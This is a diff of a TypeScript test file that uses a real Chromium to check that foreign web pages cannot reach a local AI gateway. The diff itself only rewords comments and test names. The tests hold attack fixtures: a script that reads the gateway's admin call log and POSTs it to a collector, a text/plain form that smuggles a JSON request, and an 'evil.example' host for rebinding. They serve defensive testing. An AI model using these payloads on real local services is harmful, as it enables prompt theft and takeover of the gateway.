@@ -1,5 +1,5 @@
 /**
- * A real Chromium beside a real server: pages of the web cannot reach the gateway, listed ones can use it.
+ * A real Chromium and a real server: web pages cannot reach the gateway, and listed pages can use it.
  */
 import { assert, describe, layer } from "@effect/vitest"
 import * as Context from "effect/Context"
@@ -30,7 +30,7 @@ const tab: Effect.Effect<Page, never, Chrome | Scope.Scope> = Effect.gen(functio
   return yield* Effect.promise(() => context.newPage())
 })
 
-/** A web site with one page; every other path takes what the page's scripts send, as text. */
+/** A web site with one page; every other path accepts whatever the page's scripts send, as text. */
 const site = (html: string): Effect.Effect<Peer, never, Scope.Scope> =>
   makePeer((request, response) => {
     response.writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" })
@@ -42,12 +42,12 @@ const taken = (peer: Peer): ReadonlyArray<string> =>
 
 const portOf = (url: string): string => new URL(url).port
 
-/** The name of a site in the browser: another site than 127.0.0.1, although it is the same machine. */
+/** URL of a site under another name: for the browser not the same site as 127.0.0.1, although it is the same machine. */
 const foreign = (peer: Peer): string => `http://evil.example:${portOf(peer.url)}`
 
 const prompt = "the secret prompt"
 
-/** A gateway that has answered a prompt which no page may see. */
+/** A gateway that has answered a prompt that no page may see. */
 const gateway = (options: Partial<ServeOptions> = {}) =>
   Effect.gen(function* () {
     const server = yield* serve({ port: 0, ...options })
@@ -58,7 +58,7 @@ const gateway = (options: Partial<ServeOptions> = {}) =>
     return server
   })
 
-/** Reads the prompts and takes the gateway over, from a script on its own origin. */
+/** A script that would read the prompts and take over the gateway if it ran on the gateway's origin. */
 const takeOver = (collector: string): string =>
   `<script>(async () => {
     const calls = await (await fetch("/__admin/calls")).text()
@@ -67,17 +67,17 @@ const takeOver = (collector: string): string =>
     await fetch(${JSON.stringify(collector)}, { method: "POST", mode: "no-cors", body: calls })
   })()</script>`
 
-/** A page that submits a universal request as a form, whose answer is the attacker's page. */
+/** A page that submits a universal request as a form, with a fault that answers with the attacker's page. */
 const formPage = (action: string, answer: string): string => {
   const faults = JSON.stringify([{ status: 200, body: answer }])
   const json = JSON.stringify([{ ...leg("openai"), headers: { "cf-aig-local-faults": faults } }])
-  // The name and the value of a text/plain form are joined by an equals sign: here inside a string.
+  // An equals sign joins the name and the value of a text/plain form: here it is inside a string.
   const name = `${json.slice(0, -2)},"x":"`.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;")
   return `<form method="POST" enctype="text/plain" action="${action}"><input name="${name}" value='"}]'></form>
     <script>document.forms[0].submit()</script>`
 }
 
-/** Nothing of the attack has happened. */
+/** Asserts that nothing of the attack has happened. */
 const isUnharmed = Effect.fnUntraced(function* ({ gateway }: Server, collector: Peer) {
   assert.strictEqual((yield* gateway.calls).length, 1)
   assert.deepStrictEqual(taken(collector), [])
@@ -99,7 +99,7 @@ describe.skipIf(Chromium.missing !== undefined)(Chromium.missing ?? "in Chromium
       ["/ai-gateway/universal/run/default", { token: Redacted.make("secret") }]
     ] as const) {
       const name = "token" in options ? `${path}, with a token` : path
-      it.effect(`a form on a foreign page neither calls a model nor gets a page of ours: ${name}`, () =>
+      it.effect(`a form on a foreign page neither calls a model nor opens a page on our origin: ${name}`, () =>
         Effect.gen(function* () {
           const server = yield* gateway(options)
           const collector = yield* site("")
@@ -115,7 +115,7 @@ describe.skipIf(Chromium.missing !== undefined)(Chromium.missing ?? "in Chromium
       )
     }
 
-    it.effect("a script that the gateway serves does not run on its origin", () =>
+    it.effect("a script in an answer does not run on the gateway's origin", () =>
       Effect.gen(function* () {
         const server = yield* gateway()
         const collector = yield* site("")
@@ -170,7 +170,7 @@ describe.skipIf(Chromium.missing !== undefined)(Chromium.missing ?? "in Chromium
       })
     )
 
-    it.effect("a name that an attacker points at this machine is no way in", () =>
+    it.effect("a host name that an attacker points at this machine does not reach the gateway", () =>
       Effect.gen(function* () {
         const server = yield* gateway()
         const page = yield* tab
